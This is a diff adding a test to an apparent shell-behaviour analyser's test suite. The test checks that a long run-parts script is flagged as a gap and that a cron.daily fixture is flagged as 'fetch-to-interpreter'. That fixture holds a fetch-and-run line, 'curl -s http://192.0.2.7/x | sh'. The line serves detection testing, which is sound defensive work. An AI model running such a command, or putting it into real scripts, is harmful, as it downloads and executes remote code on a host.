@@ -68,6 +68,16 @@ describe("paths known by a pattern", () => {
   });
 });
 
+test("a long program of run-parts leaves room for the next", () => {
+  const long = Array.from({ length: 9_000 }, (_, at) => `if test -e /srv/${at}; then f ${at}; fi`).join("\n");
+  const followed = follow(["/usr/bin/run-parts", "/etc/cron.daily"], {
+    "/etc/cron.daily/a": script(`#!/bin/sh\n${long.repeat(2)}\n`),
+    "/etc/cron.daily/b": script("#!/bin/sh\ncurl -s http://192.0.2.7/x | sh\n"),
+  });
+  expect(followed.gaps.map((gap) => gap.path)).toContain("/etc/cron.daily/a");
+  expect(kinds(followed)).toContain("fetch-to-interpreter");
+});
+
 describe("what leaves a host", () => {
   const sent = (code: string): unknown =>
     followShell(code).behaviours.find(({ kind }) => kind === "exfiltrates")?.detail.sent;
